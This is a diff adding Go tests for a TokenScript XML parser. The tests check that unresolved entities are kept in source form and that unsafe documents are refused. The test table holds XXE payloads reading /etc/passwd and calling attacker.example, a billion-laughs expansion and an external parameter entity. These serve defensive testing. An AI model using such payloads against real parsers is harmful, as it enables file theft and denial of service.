@@ -2,6 +2,8 @@ package tokenscript
 
 import (
 	"errors"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 
@@ -79,4 +81,57 @@ func TestBundleChecks(t *testing.T) {
 			t.Errorf("%s: got %v", name, err)
 		}
 	}
+}
+
+// TestLenientDocuments: source-form files keep their entities unresolved;
+// the attacks are refused, naming the entity.
+func TestLenientDocuments(t *testing.T) {
+	ok := `<!DOCTYPE token [<!ENTITY style SYSTEM "shared.css"><!ENTITY greeting "hello">]>` +
+		`<ts:token xmlns:ts="http://tokenscript.org/2020/06/tokenscript" name="x"><ts:label><ts:string xml:lang="en">&greeting;</ts:string></ts:label><s>&style;</s></ts:token>`
+	ts, err := ParseTokenScript([]byte(ok))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(ts.Entities) != 2 || ts.Entities[0].Name != "style" || ts.Label["en"] != "&greeting;" {
+		t.Fatalf("entities %+v label %v", ts.Entities, ts.Label)
+	}
+	if _, err := ParseManifest([]byte(ok)); !errors.Is(err, ErrUnsafe) || !strings.Contains(err.Error(), `"style"`) {
+		t.Fatalf("a node must refuse entities: %v", err)
+	}
+	for name, in := range map[string]string{
+		"xxe-file":   `<!DOCTYPE t [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><t>&xxe;</t>`,
+		"xxe-http":   `<!DOCTYPE t [<!ENTITY xxe SYSTEM "http://attacker.example/x">]><t>&xxe;</t>`,
+		"xxe-abs":    `<!DOCTYPE t [<!ENTITY xxe SYSTEM "/etc/passwd">]><t>&xxe;</t>`,
+		"laughs":     `<!DOCTYPE t [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><t>&c;</t>`,
+		"param":      `<!DOCTYPE t [<!ENTITY % p SYSTEM "evil.dtd"> %p;]><t/>`,
+		"undeclared": `<t>&nope;</t>`,
+	} {
+		_, err := ParseDocument([]byte(in))
+		if !errors.Is(err, ErrUnsafe) {
+			t.Errorf("%s: got %v", name, err)
+			continue
+		}
+		if name != "undeclared" && !strings.Contains(err.Error(), `"`) {
+			t.Errorf("%s: error does not name the entity: %v", name, err)
+		}
+	}
+}
+
+func FuzzParseTokenScript(f *testing.F) {
+	files, _ := filepath.Glob("testdata/examples/*")
+	for _, fn := range files {
+		b, _ := os.ReadFile(fn)
+		if len(b) < 64<<10 {
+			f.Add(b)
+		}
+	}
+	f.Add([]byte(`<!DOCTYPE t [<!ENTITY a "x">]><t>&a;</t>`))
+	f.Fuzz(func(t *testing.T, data []byte) {
+		ts, err := ParseTokenScript(data)
+		if err != nil {
+			return
+		}
+		_ = ts.Summarise()
+		_ = VerifySignature(data)
+	})
 }
